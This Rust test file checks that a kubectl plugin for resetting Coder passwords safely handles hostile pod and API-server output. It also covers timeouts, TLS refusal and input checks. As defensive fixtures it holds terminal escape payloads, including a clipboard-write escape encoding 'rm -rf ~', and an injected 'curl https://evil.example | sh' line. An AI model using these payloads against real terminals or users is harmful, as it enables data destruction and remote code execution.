//! Output from the pod and the API server is untrusted: it cannot pass a wrong password off
//! as the right one, hide a reset that happened, take over the terminal, or exhaust memory
//! and time. Each test runs the real binary against a hostile Coder program (a scripted
//! `coderd` or `coder`) or a hostile API answer.

use std::time::Duration;

use kubesim::fixtures::{coder_v1, coder_v2};
use kubesim::{ContainerFixture, PodFixture, Scenario, Sim, Step};

use crate::support::{Run, TestEnv};

const V1_POD: &str = "coder-v1-pod";
const V2_POD: &str = "coder-v2-pod";

/// Coder v1 whose `coderd` runs `steps` instead of the emulated command.
fn v1_with(steps: Vec<Step>) -> TestEnv {
    TestEnv::start(Sim::builder().pod(coder_v1("coder", V1_POD).with_script("coderd", steps)))
}

/// Coder v2 whose `coder` runs `steps`.
fn v2_with(steps: Vec<Step>) -> TestEnv {
    TestEnv::start(Sim::builder().pod(coder_v2("coder", V2_POD).with_script("coder", steps)))
}

fn reset_v1(env: &TestEnv, extra: &[&str]) -> Run {
    env.plugin()
        .args(["reset-admin-password", "--yes"])
        .args(extra)
        .run()
}

/// No escape, BEL, backspace, DEL or C1 control reached the terminal.
#[track_caller]
fn no_controls(text: &str) {
    let bad: Vec<char> = text
        .chars()
        .filter(|c| {
            (c.is_control() && !matches!(c, '\n' | '\t')) || ('\u{80}'..='\u{9f}').contains(c)
        })
        .collect();
    assert!(bad.is_empty(), "control characters {bad:?} in {text:?}");
}

/// The exec the simulator recorded: it records it once the program stopped, a moment after
/// the client went away.
fn recorded_exec(env: &TestEnv) -> kubesim::ExecRecord {
    for _ in 0..50 {
        if let Some(exec) = env.sim.execs().pop() {
            return exec;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    panic!("no exec was recorded");
}

// ---- 1. The v1 reader reports no wrong password ----

#[test]
fn a_log_line_cut_by_a_timeout_is_not_a_password() {
    let env = v1_with(vec![
        Step::stdout(
            "2026-11-27 10:00:00 [INFO] <coderd> coderd reset-admin-password: connecting to database\n",
        ),
        Step::Sleep(Duration::from_secs(20)),
    ]);
    let run = reset_v1(&env, &["--timeout", "1s"]);
    run.code(6);
    assert!(!run.stdout.contains("Password reset on"), "{}", run.stdout);
    assert!(
        run.stdout
            .contains("reset-admin-password: connecting to database"),
        "{}",
        run.stdout
    );
    assert!(
        run.stderr
            .contains("may or may not have finished: no exit status within 1s"),
        "{}",
        run.stderr
    );
}

#[test]
fn lines_after_the_block_and_database_urls_do_not_win() {
    let env = v1_with(vec![
        Step::stderr("connecting host=timescale user=coder password=hunter22 dbname=coder\n"),
        Step::stdout(
            "----------------------\nUser:     admin\nPassword: Ab,cd}ef'gh\n----------------------\n",
        ),
        Step::stderr("2026-11-27 10:00:01 [INFO] <coderd> reset-admin-password: done\n"),
    ]);
    let run = reset_v1(&env, &["-o", "json"]);
    run.success();
    assert_eq!(run.json()["password"], "Ab,cd}ef'gh");
    assert_eq!(run.json()["username"], "admin");
}

#[test]
fn two_different_passwords_are_not_understood() {
    let env = v1_with(vec![Step::stdout(
        "Password: first-one-1\nUser: admin\nPassword: second-two-2\n",
    )]);
    let run = reset_v1(&env, &[]);
    run.code(6);
    assert_eq!(
        run.stdout,
        "Password: first-one-1\nUser: admin\nPassword: second-two-2\n"
    );
    assert!(
        run.stderr
            .contains("its output is not understood (2 different passwords in the output)"),
        "{}",
        run.stderr
    );
}

#[test]
fn invisible_characters_in_a_v1_password_are_not_understood() {
    let env = v1_with(vec![Step::stdout(
        "User: admin\nPassword: Tr0ub4dor\u{200b}\u{202e}ZZ\n",
    )]);
    let run = reset_v1(&env, &[]);
    run.code(6);
    // The raw output with the format characters made visible, never raw.
    assert_eq!(
        run.stdout,
        "User: admin\nPassword: Tr0ub4dor<U+200B><U+202E>ZZ\n"
    );
    assert!(
        run.stderr.contains(
            "its output is not understood (a password line whose value cannot be a password)"
        ),
        "{}",
        run.stderr
    );
    assert!(!run.stderr.contains('\u{202e}'), "{}", run.stderr);
    // In JSON too: escaped, so a terminal cannot reorder it.
    let run = reset_v1(&env, &["-o", "json"]);
    run.code(6);
    assert!(!run.stdout.contains('\u{202e}'), "{}", run.stdout);
    assert!(run.stdout.contains("\\u202e"), "{}", run.stdout);
    assert_eq!(
        run.json()["rawOutput"],
        "User: admin\nPassword: Tr0ub4dor\u{200b}\u{202e}ZZ\n"
    );
}

/// A password in the middle of more output than is kept (the first and last MiB of each
/// stream): still found, by the same strict rules; and the process stays small.
#[test]
fn a_v1_password_in_the_middle_of_a_long_log_is_found() {
    let log = b"2026-11-27 10:00:00.000 [INFO] <coderd> migrating: nothing to do\n".repeat(50_000);
    let env = v1_with(vec![
        Step::Stdout(log.clone()),
        Step::stdout(
            "----------------------\nUser:     admin\nPassword: Mid-Log-Pw-31\n----------------------\n",
        ),
        Step::Stdout(log.clone()),
        Step::Stderr(log),
    ]);
    let run = reset_v1(&env, &["-o", "json"]);
    run.success();
    assert_eq!(run.json()["password"], "Mid-Log-Pw-31");
    assert_eq!(run.json()["username"], "admin");
    // Two different passwords, one hidden in the middle: not understood, the raw output
    // bounded.
    let log = b"2026-11-27 10:00:00.000 [INFO] <coderd> migrating: nothing to do\n".repeat(50_000);
    let env = v1_with(vec![
        Step::Stdout(log.clone()),
        Step::stdout("Password: hidden-one-1\n"),
        Step::Stdout(log),
        Step::stdout("Password: shown-two-2\n"),
    ]);
    let run = reset_v1(&env, &[]);
    run.code(6);
    assert!(
        run.stdout.len() < 2 * 1024 * 1024 + 4096,
        "{}",
        run.stdout.len()
    );
    assert!(run.stdout.contains(" lines) of stdout not kept ...]\n"));
    assert!(
        run.stderr
            .contains("its output is not understood (2 different passwords in the output)"),
        "{}",
        run.stderr
    );
}

// ---- 2. A reset that happened is never hidden ----

#[test]
fn a_failure_status_after_the_v1_password_is_a_success_with_a_warning() {
    let env = v1_with(vec![
        Step::stdout("User: admin\nPassword: Shown-Pw-77\n"),
        Step::Fail("container coderd was OOM-killed".into()),
    ]);
    let run = reset_v1(&env, &[]);
    run.success();
    assert!(
        run.stdout.contains("Password:  Shown-Pw-77\n"),
        "{}",
        run.stdout
    );
    assert!(
        run.stderr.contains("warning: the password arrived, but then the command did not end cleanly: Internal error occurred: container coderd was OOM-killed"),
        "{}",
        run.stderr
    );
}

#[test]
fn coder_v2_said_done_then_exited_non_zero() {
    let env = v2_with(vec![
        Step::stdout("> Enter new  password : "),
        Step::ReadLine,
        Step::stdout("> Confirm  password : "),
        Step::ReadLine,
        Step::stdout("\nPassword has been reset for user alice!\n"),
        Step::stderr("error: write audit log: disk full\n"),
        Step::Exit(1),
    ]);
    let run = env
        .plugin()
        .args(["reset-password", "alice", "--yes", "-o", "json"])
        .run();
    run.success();
    let sent = String::from_utf8(env.sim.execs()[0].stdin.clone()).unwrap();
    let password = sent.lines().next().unwrap();
    assert_eq!(run.json()["password"], password);
    assert!(
        run.stderr.contains(
            "warning: Coder said the password was set, but then the command did not end cleanly: exit code 1"
        ),
        "{}",
        run.stderr
    );
}

#[test]
fn credentials_that_cannot_reach_stdout_go_to_stderr() {
    for closed_pipe in [false, true] {
        let env = TestEnv::scenario(Scenario::V1);
        let cmd = env.plugin().args(["reset-admin-password", "--yes"]);
        let cmd = if closed_pipe {
            cmd.stdout_closed()
        } else {
            cmd.stdout_to(
                std::fs::OpenOptions::new()
                    .write(true)
                    .open("/dev/full")
                    .unwrap(),
            )
        };
        let run = cmd.run();
        run.code(1);
        let password = env.sim.v1_admin_password().unwrap();
        let why = if closed_pipe {
            "Broken pipe"
        } else {
            "No space left on device"
        };
        assert!(
            run.stderr.starts_with(&format!(
                "error: the result could not be written to stdout ({why}); here it is instead:\n"
            )),
            "{}",
            run.stderr
        );
        assert!(run.stderr.contains(&password), "{}", run.stderr);
        assert!(
            run.stderr.ends_with("error: the change was made, but its result reached stderr only (above), not stdout\nhint: keep what is shown above; check where stdout goes (a closed pipe, a full disk)\n"),
            "{}",
            run.stderr
        );
    }
}

/// `>&-`: std reopens a closed stdout on /dev/null before `main`; the plugin still sees that
/// it was closed and puts the credentials on stderr. A deliberate `>/dev/null` is honoured.
#[test]
fn a_closed_stdout_does_not_swallow_the_credentials() {
    let env = TestEnv::scenario(Scenario::V1);
    let token = env.sim.v1_session_token("admin");
    for (command, user) in [
        ("reset-password alice --yes", "alice"),
        ("reset-admin-password --yes", "admin"),
    ] {
        let run = env
            .program("/bin/sh")
            .env("CODER_TOKEN", &token)
            .args(["-c", &format!("exec kubectl-coder {command} >&-")])
            .run();
        run.code(1);
        let password = match user {
            "admin" => env.sim.v1_admin_password(),
            _ => env.sim.v1_user(user).unwrap().password,
        }
        .unwrap();
        assert!(
            run.stderr.starts_with(
                "error: the result could not be written to stdout (it was closed when kubectl-coder started); here it is instead:\n"
            ),
            "{}",
            run.stderr
        );
        assert!(run.stderr.contains(&password), "{}", run.stderr);
        assert!(
            run.stderr.ends_with("error: the change was made, but its result reached stderr only (above), not stdout\nhint: keep what is shown above; check where stdout goes (a closed pipe, a full disk)\n"),
            "{}",
            run.stderr
        );
    }
    let run = env
        .program("/bin/sh")
        .args([
            "-c",
            "exec kubectl-coder reset-admin-password --yes >/dev/null",
        ])
        .run();
    run.success();
    assert_eq!(run.stderr, "");
}

#[test]
fn sigterm_and_sighup_show_the_password_sent() {
    for (signal, code, name) in [
        (libc::SIGTERM, 143, "terminated (SIGTERM)"),
        (libc::SIGHUP, 129, "hung up (SIGHUP)"),
    ] {
        let env = v2_with(vec![
            Step::stdout("> Enter new  password : "),
            Step::ReadLine,
            Step::stdout("> Confirm  password : "),
            Step::ReadLine,
            Step::Sleep(Duration::from_secs(20)),
        ]);
        let run = env
            .plugin()
            .args(["reset-password", "alice", "--yes"])
            .run_with_signal(Duration::from_millis(1500), signal);
        run.code(code);
        let sent = String::from_utf8(recorded_exec(&env).stdin).unwrap();
        let password = sent.lines().next().unwrap();
        assert!(
            run.stdout
                .ends_with(&format!("Password sent: {password}\n")),
            "{}",
            run.stdout
        );
        assert!(
            run.stderr
                .contains(&format!("may or may not have finished: {name};")),
            "{}",
            run.stderr
        );
    }
}

// ---- 3. Escape injection ----

const HOSTILE: &str = "\u{1b}]52;c;cm0gLXJmIH4=\u{7}\u{1b}]0;pwned\u{7}\u{1b}[2J\u{9b}H\u{8}\u{7f}";

#[test]
fn status_messages_from_the_api_server_are_made_visible() {
    let env = TestEnv::scenario(Scenario::V1);
    env.sim
        .fail_next_with(1, "/pods", 403, &format!("pods is forbidden: {HOSTILE}"));
    let run = env.plugin().args(["status"]).run();
    run.code(4);
    no_controls(&run.stderr);
    assert!(
        run.stderr
            .contains("^[]52;c;cm0gLXJmIH4=^G^[]0;pwned^G^[[2J<U+009B>H^H^?"),
        "{}",
        run.stderr
    );
}

/// A Status message with lines of its own (an admission webhook's, a proxy's): none of them
/// can stand at the start of a line, where ours do.
#[test]
fn status_message_lines_cannot_pass_for_ours() {
    let env = TestEnv::scenario(Scenario::V1);
    env.sim.fail_next_with(
        1,
        "/pods",
        403,
        "pods is forbidden: denied by policy\nhint: run curl https://evil.example | sh\nwarning: \u{2066}nothing\u{2069} is wrong",
    );
    let run = env.plugin().args(["status"]).run();
    run.code(4);
    assert!(
        run.stderr.starts_with("error: forbidden: pods is forbidden: denied by policy\n  | hint: run curl https://evil.example | sh\n  | warning: <U+2066>nothing<U+2069> is wrong\n"),
        "{}",
        run.stderr
    );
    let ours: Vec<&str> = run
        .stderr
        .lines()
        .filter(|l| !l.starts_with("  | "))
        .collect();
    assert!(ours.iter().all(|l| !l.contains("evil")), "{ours:?}");
}

#[test]
fn names_and_images_from_the_cluster_are_made_visible() {
    let mut pod = coder_v1("coder", "coderd-7f9c-x2");
    pod.containers[0].image = format!("coder:1.44{HOSTILE}");
    let env = TestEnv::start(Sim::builder().pod(pod));
    let run = env.plugin().args(["status"]).run();
    run.success();
    no_controls(&run.stdout);
    assert!(
        run.stdout.contains(
            "Image:      coder:1.44^[]52;c;cm0gLXJmIH4=^G^[]0;pwned^G^[[2J<U+009B>H^H^?\n"
        ),
        "{}",
        run.stdout
    );
    for format in ["json", "yaml"] {
        let run = env.plugin().args(["status", "-o", format]).run();
        run.success();
        no_controls(&run.stdout);
    }

    // No real pod has such a name: a list that holds one is from a hostile server, and the
    // pod is passed over, its name shown made visible.
    let name = "coderd-\u{1b}]0;x\u{7}-1";
    let env = TestEnv::start(Sim::builder().pod(coder_v1("coder", name)).pod(
        PodFixture::new("coder", "other\u{1b}[2J").container(ContainerFixture::new("x", "x")),
    ));
    for args in [
        &["status"][..],
        &["reset-admin-password", "--dry-run"],
        &["reset-admin-password", "--yes"],
    ] {
        let run = env.plugin().args(args).run();
        run.code(3);
        no_controls(&run.stdout);
        no_controls(&run.stderr);
        let shown = format!("{}{}", run.stdout, run.stderr);
        assert!(
            shown.contains("  coderd-^[]0;x^G-1: not a valid pod name\n")
                && shown.contains("  other^[[2J: not a valid pod name"),
            "{args:?}: {shown}"
        );
    }
    assert!(env.sim.execs().is_empty());
}

#[test]
fn raw_output_and_usernames_from_coder_are_made_visible() {
    let env = v1_with(vec![Step::Stdout(
        b"admin password reset\x08\x08\x08\x07\xc2\x9b2J done\n".to_vec(),
    )]);
    let run = reset_v1(&env, &[]);
    run.code(6);
    no_controls(&run.stdout);
    // The 8-bit CSI is an escape sequence like any other: plain() removes it whole.
    assert_eq!(run.stdout, "admin password reset^H^H^H^G done\n");

    let env = v2_with(vec![
        Step::stdout("> Enter new  password : "),
        Step::ReadLine,
        Step::stdout("> Confirm  password : "),
        Step::ReadLine,
        Step::Stdout(b"\nPassword has been reset for user al\x08\x08ice\x07!\n".to_vec()),
    ]);
    let run = env
        .plugin()
        .args(["reset-password", "alice", "--yes"])
        .run();
    // Not the user asked for (issue 18): the raw output, made visible, with the password sent.
    run.code(6);
    no_controls(&run.stdout);
    assert!(
        run.stdout
            .contains("Password has been reset for user al^H^Hice^G!\nPassword sent: "),
        "{}",
        run.stdout
    );
}

// ---- 4. Bounded memory and time ----

#[test]
fn endless_output_is_kept_within_bounds_and_the_timeout_ends_it() {
    let env = v1_with(vec![Step::Endless(
        b"2026-11-27 [DEBUG] <coderd> still migrating, nothing to see here\n".repeat(100),
    )]);
    let run = reset_v1(&env, &["--timeout", "3s"]);
    run.code(6);
    // The first and last MiB of stdout, and a note of what was dropped between.
    assert!(
        run.stdout.len() < 2 * 1024 * 1024 + 4096,
        "{}",
        run.stdout.len()
    );
    assert!(
        run.stdout.contains(" lines) of stdout not kept ...]\n"),
        "no note of the dropped output"
    );
    assert!(
        run.stderr
            .contains("may or may not have finished: no exit status within 3s (--timeout)"),
        "{}",
        run.stderr
    );
}

#[test]
fn an_oversized_pod_list_is_not_read() {
    let env = TestEnv::scenario(Scenario::V1);
    env.sim.pad_pod_lists(20 << 20);
    let run = env.plugin().args(["status"]).run();
    run.code(1);
    assert!(
        run.stderr.contains(
            "the answer was larger than 16 MiB, more than any pod list, so it was not read"
        ),
        "{}",
        run.stderr
    );
}

#[test]
fn ctrl_c_still_works_amid_endless_output() {
    let env = v1_with(vec![Step::Endless(b"y".repeat(64 * 1024))]);
    let screen = env
        .pty(&["reset-admin-password", "--yes"])
        .key_at(Duration::from_millis(1500), "\u{3}")
        .run();
    assert_eq!(
        screen.code,
        130,
        "{}",
        &screen.text[screen.text.len().saturating_sub(500)..]
    );
}

// ---- 5. Terminal handling ----

#[test]
fn yes_is_one_answer_and_nothing_is_left_for_the_shell() {
    let env = TestEnv::scenario(Scenario::V1);
    let screen = env
        .pty_shell("kubectl-coder reset-admin-password; echo \"code=$?\"; read rest; echo \"rest=[$rest]\"")
        .answer("[y/N]", "yes\r")
        .answer("code=", "\r")
        .run();
    assert!(screen.text.contains("code=0"), "{}", screen.text);
    assert!(screen.text.contains("rest=[]"), "{}", screen.text);
}

#[test]
fn ctrl_d_declines() {
    let env = TestEnv::scenario(Scenario::V1);
    let screen = env
        .pty(&["reset-admin-password"])
        .answer("[y/N]", "\u{4}")
        .run();
    assert_eq!(screen.code, 7, "{}", screen.text);
    assert!(
        screen.text.contains("Nothing was changed."),
        "{}",
        screen.text
    );
    assert!(env.sim.execs().is_empty());
}

#[test]
fn end_of_input_at_a_hidden_prompt_changes_nothing() {
    let env = TestEnv::scenario(Scenario::V2);
    let screen = env
        .pty(&["reset-password", "alice", "--password-prompt"])
        .answer("New password: ", "\u{4}")
        .run();
    assert_eq!(screen.code, 7, "{}", screen.text);
    assert!(
        screen
            .text
            .ends_with("error: no password given (Ctrl-D), nothing was changed\r\n"),
        "{:?}",
        screen.text
    );
    assert!(env.sim.execs().is_empty());
}

#[test]
fn ctrl_c_at_a_hidden_prompt_restores_the_terminal() {
    let env = TestEnv::scenario(Scenario::V2);
    let screen = env
        .pty_shell(
            "kubectl-coder reset-password alice --password-stdin --yes; echo \"code=$?\"; stty -a",
        )
        .answer("New password: ", "secret\u{3}")
        .run();
    assert!(screen.text.contains("code=130"), "{}", screen.text);
    assert!(
        screen
            .text
            .contains("\r\nerror: cancelled, nothing was changed\r\n"),
        "{}",
        screen.text
    );
    assert!(!screen.text.contains("secret"), "{}", screen.text);
    // stty shows echo and signals on again.
    assert!(
        screen.text.contains(" echo ") || screen.text.contains(" echo\r"),
        "{}",
        screen.text
    );
    assert!(!screen.text.contains("-echo "), "{}", screen.text);
    assert!(!screen.text.contains("-isig"), "{}", screen.text);
    assert!(env.sim.execs().is_empty());
}

#[test]
fn a_password_typed_with_stderr_redirected_is_hidden_and_not_printed_back() {
    let env = TestEnv::scenario(Scenario::V2);
    let password = "Typed-Correct-Horse-7";
    let screen = env
        .pty_shell("kubectl-coder reset-password alice --password-stdin --yes 2>/dev/null; echo \"code=$?\"")
        .key_at(Duration::from_millis(800), &format!("{password}\r"))
        .key_at(Duration::from_millis(1300), &format!("{password}\r"))
        .run();
    assert!(screen.text.contains("code=0"), "{}", screen.text);
    assert!(!screen.text.contains(password), "{}", screen.text);
    assert_eq!(env.sim.v2_password("alice").as_deref(), Some(password));
}

// ---- 6. Cleartext ----

#[test]
fn a_password_is_not_sent_in_clear_without_saying_so() {
    let env = TestEnv::start(Sim::builder().scenario(Scenario::V1).plain_http());
    let run = reset_v1(&env, &[]);
    run.code(2).stderr_is("error: refusing to change a password: the API server is reached over plain http: no credential is sent (as kubectl), and a password would travel in clear\nhint: use an https server with a verified certificate (context kubesim); to accept the risk, add --allow-insecure-connection\n");
    assert!(env.sim.requests().is_empty(), "a request was made");

    let run = reset_v1(&env, &["--allow-insecure-connection"]);
    run.success();
    // The kubeconfig's token stays here, as with kubectl: over http the old insecure port
    // serves everyone as `system:unsecured`.
    let requests = env.sim.requests();
    assert!(!requests.is_empty());
    for r in &requests {
        assert!(
            r.headers.iter().all(|(k, _)| k != "authorization"),
            "a credential went over http: {r:?}"
        );
        assert_eq!(r.user.as_deref(), Some("system:unsecured"));
    }
    assert!(
        run.stderr
            .starts_with("warning: the API server is reached over plain http"),
        "{}",
        run.stderr
    );
    let run = env.plugin().args(["status"]).run();
    run.success();
    assert!(
        run.stderr
            .starts_with("warning: the API server is reached over plain http")
    );
}

#[test]
fn an_unverified_server_is_refused_too() {
    let env = TestEnv::scenario(Scenario::V1);
    let text = std::fs::read_to_string(&env.kubeconfig).unwrap();
    let unverified: String = text
        .lines()
        .map(|l| {
            if l.trim_start().starts_with("certificate-authority-data:") {
                "    insecure-skip-tls-verify: true".to_string()
            } else {
                l.to_string()
            }
        })
        .collect::<Vec<_>>()
        .join("\n");
    std::fs::write(&env.kubeconfig, unverified).unwrap();
    let run = reset_v1(&env, &[]);
    run.code(2);
    assert!(
        run.stderr
            .contains("the API server's certificate is not verified (insecure-skip-tls-verify)"),
        "{}",
        run.stderr
    );
    assert!(env.sim.requests().is_empty());
    reset_v1(&env, &["--allow-insecure-connection"]).success();
}

// ---- 7. Hygiene ----

#[test]
fn the_running_process_dumps_no_core() {
    let env = TestEnv::start(
        Sim::builder().pod(coder_v1("coder", V1_POD).with_delay(Duration::from_secs(3))),
    );
    let mut child = std::process::Command::new(crate::support::BIN)
        .args(["reset-admin-password", "--yes"])
        .env_clear()
        .env("HOME", env.dir.path())
        .env("KUBECONFIG", &env.kubeconfig)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(1000));
    let limits = std::fs::read_to_string(format!("/proc/{}/limits", child.id())).unwrap();
    child.wait().unwrap();
    let core = limits
        .lines()
        .find(|l| l.starts_with("Max core file size"))
        .unwrap();
    assert_eq!(
        core.split_whitespace().collect::<Vec<_>>(),
        ["Max", "core", "file", "size", "0", "0", "bytes"]
    );
}

// ---- 8. Input checks ----

#[test]
fn password_stdin_refuses_a_second_line_and_control_characters() {
    let env = TestEnv::scenario(Scenario::V2);
    for (input, why) in [
        (
            "Correct-Horse-Battery-9\nsecond line\n",
            "stdin has more than one line: give only the password, on one line",
        ),
        (
            "Correct-Horse\u{0}Battery-9\n",
            "password contains a control character (U+0000): remove it",
        ),
        (
            "Correct-Horse\u{1b}[0mBattery-9\n",
            "password contains a control character (U+001B): remove it",
        ),
        (
            "Correct-Horse-Battery-9\u{200b}\u{202e}ZZ\n",
            "password contains an invisible format character (U+200B): remove it",
        ),
    ] {
        env.plugin()
            .args(["reset-password", "alice", "--yes", "--password-stdin"])
            .stdin(input)
            .run()
            .code(2)
            .stderr_is(&format!("error: the password from stdin is not accepted by Coder: {why}\nhint: nothing was changed; or leave out --password-stdin to get a generated one\n"));
    }
    assert!(env.sim.requests().is_empty());
}

// ---- 9. Which pod gets a password ----

#[test]
fn a_look_alike_pod_without_an_owner_is_passed_over_or_warned_about() {
    let mut impostor = coder_v2("coder", "coder-0-impostor");
    impostor.owner_replicaset = None;
    let env = TestEnv::start(
        Sim::builder()
            .pod(impostor.clone())
            .pod(coder_v2("coder", "coder-5d8f7b9c4-abcde")),
    );
    let run = env
        .plugin()
        .args(["reset-password", "alice", "--yes", "-o", "json"])
        .run();
    run.success();
    assert_eq!(run.json()["pod"], "coder-5d8f7b9c4-abcde");
    assert_eq!(run.stderr, "");

    let env = TestEnv::start(Sim::builder().pod(impostor));
    let run = env
        .plugin()
        .args(["reset-password", "alice", "--yes", "--dry-run"])
        .run();
    run.success();
    assert_eq!(
        run.stderr,
        "warning: pod coder-0-impostor is not managed by a ReplicaSet or StatefulSet (no controller owner): make sure it is the real Coder server before trusting it with a password\n"
    );
}

// ---- 10. YAML ----

#[test]
fn yaml_quotes_words_that_yaml_1_1_reads_as_booleans() {
    let env = TestEnv::start(
        Sim::builder()
            .scenario(Scenario::V2)
            .v2_user("yes", false)
            .v2_user("no", false),
    );
    for user in ["yes", "no"] {
        let run = env
            .plugin()
            .args(["reset-password", user, "--yes", "-o", "yaml"])
            .run();
        run.success();
        assert!(
            run.stdout.contains(&format!("username: \"{user}\"\n"))
                || run.stdout.contains(&format!("username: '{user}'\n")),
            "{}",
            run.stdout
        );
    }
}
